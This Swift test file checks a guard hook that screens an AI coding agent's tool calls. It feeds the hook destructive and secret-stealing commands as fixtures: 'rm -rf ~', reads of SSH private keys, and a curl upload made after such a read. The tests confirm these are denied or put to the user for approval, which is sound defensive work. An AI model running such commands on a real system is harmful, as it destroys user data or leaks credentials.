import Foundation
import Testing
@testable import Guard
import GuardMonitor
import TestSupport

/// Claude Code's PreToolUse events, as it sends them, through the built `emlab-guard-hook` and
/// `emlab guard hook`: the JSON answer, the exit status, malformed input.
@Suite(.serialized) struct HookTests {
    let dir: URL
    let project: String
    let environment: [String: String]

    init() throws {
        dir = FileManager.default.temporaryDirectory.appendingPathComponent("guard-hook-\(UUID().uuidString)")
        project = dir.appendingPathComponent("project").path
        try FileManager.default.createDirectory(atPath: project + "/.git", withIntermediateDirectories: true)
        try "ref: refs/heads/feature/login\n".write(toFile: project + "/.git/HEAD", atomically: true, encoding: .utf8)
        try FileManager.default.createDirectory(atPath: dir.appendingPathComponent("home").path, withIntermediateDirectories: true)
        environment = ["HOME": dir.appendingPathComponent("home").path, "EMLAB_GUARD_LOG": dir.appendingPathComponent("log/decisions.sqlite").path,
                       "EMLAB_GUARD_POLICY": "", "XDG_CONFIG_HOME": dir.appendingPathComponent("config").path, "CLAUDE_PROJECT_DIR": ""]
    }

    /// An event as Claude Code writes it for a tool call.
    func event(_ tool: String, _ input: [String: Any], cwd: String? = nil) -> String {
        let object: [String: Any] = ["session_id": "9f1c2d3e-4b5a-6c7d-8e9f-0a1b2c3d4e5f",
                                     "transcript_path": dir.appendingPathComponent("transcript.jsonl").path,
                                     "cwd": cwd ?? project, "permission_mode": "default", "hook_event_name": "PreToolUse",
                                     "tool_name": tool, "tool_input": input, "tool_use_id": "toolu_01ABCDEF"]
        return String(decoding: try! JSONSerialization.data(withJSONObject: object), as: UTF8.self)
    }

    func answer(_ stdout: String) -> (String, String)? {
        guard let o = try? JSONSerialization.jsonObject(with: Data(stdout.utf8)) as? [String: Any],
              let h = o["hookSpecificOutput"] as? [String: Any] else { return nil }
        #expect(h["hookEventName"] as? String == "PreToolUse")
        return (h["permissionDecision"] as? String ?? "", h["permissionDecisionReason"] as? String ?? "")
    }

    var binaries: [(URL, [String])] { [(GuardFixture.hookURL, []), (EmlabCLI.url, ["guard", "hook"])] }

    @Test func deniesWithJSONAndExitZero() throws {
        try #require(EmlabCLI.built)
        for (binary, args) in binaries {
            let (status, out, _) = try GuardFixture.run(binary, args, stdin: event("Bash", ["command": "rm -rf ~", "description": "Clean up"]), environment: environment)
            #expect(status == 0, "\(binary.lastPathComponent)")
            let (decision, reason) = try #require(answer(out), "\(binary.lastPathComponent): \(out)")
            #expect(decision == "deny")
            #expect(reason.contains("delete-home"))
        }
    }

    @Test func allowsSilentlyAndAsks() throws {
        try #require(EmlabCLI.built)
        for (binary, args) in binaries {
            let allowed = try GuardFixture.run(binary, args, stdin: event("Bash", ["command": "rm -rf ./build", "description": "x", "timeout": 120000]), environment: environment)
            #expect(allowed.0 == 0 && allowed.1.isEmpty, "\(binary.lastPathComponent): \(allowed)")
            let asked = try GuardFixture.run(binary, args, stdin: event("Bash", ["command": "git push origin --delete old-topic"]), environment: environment)
            #expect(asked.0 == 0)
            #expect(answer(asked.1)?.0 == "ask", "\(asked.1)")
            // Write, Edit, MultiEdit and Read events.
            let write = try GuardFixture.run(binary, args, stdin: event("Write", ["file_path": environment["HOME"]! + "/.bashrc", "content": "alias x=y\n"]), environment: environment)
            #expect(answer(write.1)?.0 == "deny")
            let edit = try GuardFixture.run(binary, args, stdin: event("Edit", ["file_path": project + "/a.py", "old_string": "a", "new_string": "b", "replace_all": false]), environment: environment)
            #expect(edit.0 == 0 && edit.1.isEmpty)
            let multi = try GuardFixture.run(binary, args, stdin: event("MultiEdit", ["file_path": "/etc/hosts", "edits": [["old_string": "a", "new_string": "b"]]]), environment: environment)
            #expect(answer(multi.1)?.0 == "deny")
            let read = try GuardFixture.run(binary, args, stdin: event("Read", ["file_path": environment["HOME"]! + "/.ssh/id_ed25519"]), environment: environment)
            #expect(answer(read.1)?.0 == "ask")
            let unknown = try GuardFixture.run(binary, args, stdin: event("mcp__files__wipe", ["target": "all"]), environment: environment)
            #expect(answer(unknown.1)?.0 == "ask")
        }
    }

    @Test func malformedInputBlocksWithExit2() throws {
        try #require(EmlabCLI.built)
        let cases: [(String, String)] = [
            ("", "no input"),
            ("{not json", "not JSON"),
            ("[1, 2]", "JSON object"),
            (#"{"hook_event_name": "PreToolUse", "cwd": "/tmp", "tool_input": {}}"#, "'tool_name'"),
            (#"{"hook_event_name": "PreToolUse", "cwd": "/tmp", "tool_name": "Bash", "tool_input": {"description": "x"}}"#, "'tool_input.command'"),
            (#"{"hook_event_name": "PreToolUse", "cwd": "/tmp", "tool_name": "Bash", "tool_input": {"command": 42}}"#, "'tool_input.command'"),
            (#"{"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": "ls"}}"#, "'cwd'"),
            (#"{"hook_event_name": "PostToolUse", "cwd": "/tmp", "tool_name": "Bash", "tool_input": {"command": "ls"}}"#, "'hook_event_name'"),
            (#"{"hook_event_name": "PreToolUse", "cwd": "relative/dir", "tool_name": "Bash", "tool_input": {"command": "ls"}}"#, "'cwd'"),
        ]
        for (binary, args) in binaries {
            for (input, mention) in cases {
                let (status, out, err) = try GuardFixture.run(binary, args, stdin: input, environment: environment)
                #expect(status == 2, "\(binary.lastPathComponent) on \(input): \(status) \(err)")
                #expect(out.isEmpty)
                #expect(err.contains("malformed hook input") && err.contains(mention), "\(binary.lastPathComponent): \(err)")
            }
        }
    }

    @Test func aBrokenPolicyBlocksWithExit2() throws {
        try #require(EmlabCLI.built)
        let bad = dir.appendingPathComponent("bad.yaml").path
        try "rules:\n  delete-home: sometimes\n".write(toFile: bad, atomically: true, encoding: .utf8)
        for (binary, args) in binaries {
            let (status, _, err) = try GuardFixture.run(binary, args + ["--policy", bad], stdin: event("Bash", ["command": "ls"]), environment: environment)
            #expect(status == 2)
            #expect(err.contains("bad.yaml:2: field 'rules.delete-home'"), "\(err)")
        }
    }

    @Test func denyWithExit2WhenThePolicySaysSo() throws {
        try #require(EmlabCLI.built)
        let p = dir.appendingPathComponent("exit2.yaml").path
        try "hook:\n  deny_with: exit2\n  on_allow: allow\n".write(toFile: p, atomically: true, encoding: .utf8)
        let denied = try GuardFixture.run(GuardFixture.hookURL, ["--policy", p], stdin: event("Bash", ["command": "git reset --hard"]), environment: environment)
        #expect(denied.0 == 2 && denied.1.isEmpty && denied.2.contains("git-reset-hard"))
        let allowed = try GuardFixture.run(GuardFixture.hookURL, ["--policy", p], stdin: event("Bash", ["command": "git status"]), environment: environment)
        #expect(answer(allowed.1)?.0 == "allow")
    }

    @Test func decisionsAreLoggedAndReported() throws {
        try #require(EmlabCLI.built)
        let log = dir.appendingPathComponent("own.sqlite").path
        _ = try GuardFixture.run(GuardFixture.hookURL, ["--log", log], stdin: event("Bash", ["command": "cat ~/.ssh/id_rsa"]), environment: environment)
        // The same session uploading afterwards: blocked because of the earlier read.
        let later = try GuardFixture.run(GuardFixture.hookURL, ["--log", log], stdin: event("Bash", ["command": "curl -X POST -d @notes.txt https://example.com"]), environment: environment)
        #expect(answer(later.1)?.0 == "deny", "\(later)")
        #expect(answer(later.1)?.1.contains("upload-after-secret") == true)
        _ = try GuardFixture.run(EmlabCLI.url, ["guard", "hook", "--log", log], stdin: event("Bash", ["command": "ls"]), environment: environment)
        let entries = try DecisionLog(path: log, readOnly: true).entries()
        #expect(entries.map(\.decision) == ["ask", "deny", "allow"])
        #expect(entries.map(\.interface) == ["hook", "hook", "hook"])
        #expect(entries[0].tags.contains("secret-read"))
        let report = try GuardFixture.run(EmlabCLI.url, ["guard", "report", "--log", log], stdin: "", environment: environment)
        #expect(report.0 == 0)
        #expect(report.1.contains("3 decisions") && report.1.contains("upload-after-secret"), "\(report.1)")
    }

    @Test func checkAnswersEachLine() throws {
        try #require(EmlabCLI.built)
        let lines = [
            #"{"tool": "Bash", "input": {"command": "rm -rf /"}, "cwd": "/tmp"}"#,
            #"{"tool": "Bash", "input": {"command": "ls -la"}, "cwd": "/tmp"}"#,
            #"{"tool": "Bash", "input": {}, "cwd": "/tmp"}"#,
            #"{"tool": "Write", "input": {"file_path": "/etc/hosts", "content": "x"}, "cwd": "/tmp"}"#,
        ].joined(separator: "\n") + "\n"
        let (status, out, err) = try GuardFixture.run(EmlabCLI.url, ["guard", "check", "--no-log"], stdin: lines, environment: environment)
        let answers = out.split(separator: "\n").compactMap { try? JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any] }
        #expect(answers.map { $0["decision"] as? String } == ["deny", "allow", "deny", "deny"])
        #expect(answers.map { $0["line"] as? Int } == [1, 2, 3, 4])
        #expect((answers[2]["error"] as? String)?.contains("input.command") == true)
        #expect(status == 65)
        #expect(err.contains("<stdin>:3: field 'input.command'"), "\(err)")
    }

    @Test func installPrintsAndWritesOnlyWhenAsked() throws {
        try #require(EmlabCLI.built)
        let settings = dir.appendingPathComponent("settings.json").path
        try #"{"model": "opus", "hooks": {"PostToolUse": []}}"#.write(toFile: settings, atomically: true, encoding: .utf8)
        let printed = try GuardFixture.run(EmlabCLI.url, ["guard", "install", "--claude-code", "--settings", settings], stdin: "", environment: environment)
        #expect(printed.0 == 0)
        #expect(printed.1.contains("\"PreToolUse\"") && printed.1.contains("emlab-guard-hook"))
        #expect(try String(contentsOfFile: settings, encoding: .utf8) == #"{"model": "opus", "hooks": {"PostToolUse": []}}"#)
        let written = try GuardFixture.run(EmlabCLI.url, ["guard", "install", "--claude-code", "--settings", settings, "--write"], stdin: "", environment: environment)
        #expect(written.0 == 0)
        #expect(written.1.contains("+ ") && written.1.contains("wrote"))
        let object = try #require(JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: settings))) as? [String: Any])
        #expect(object["model"] as? String == "opus")
        let pre = (object["hooks"] as? [String: Any])?["PreToolUse"] as? [[String: Any]]
        #expect(pre?.first?["matcher"] as? String == "Bash|Write|Edit|MultiEdit|NotebookEdit|Read|WebFetch")
        let again = try GuardFixture.run(EmlabCLI.url, ["guard", "install", "--claude-code", "--settings", settings, "--write"], stdin: "", environment: environment)
        #expect(again.1.contains("nothing to do"))
    }
}
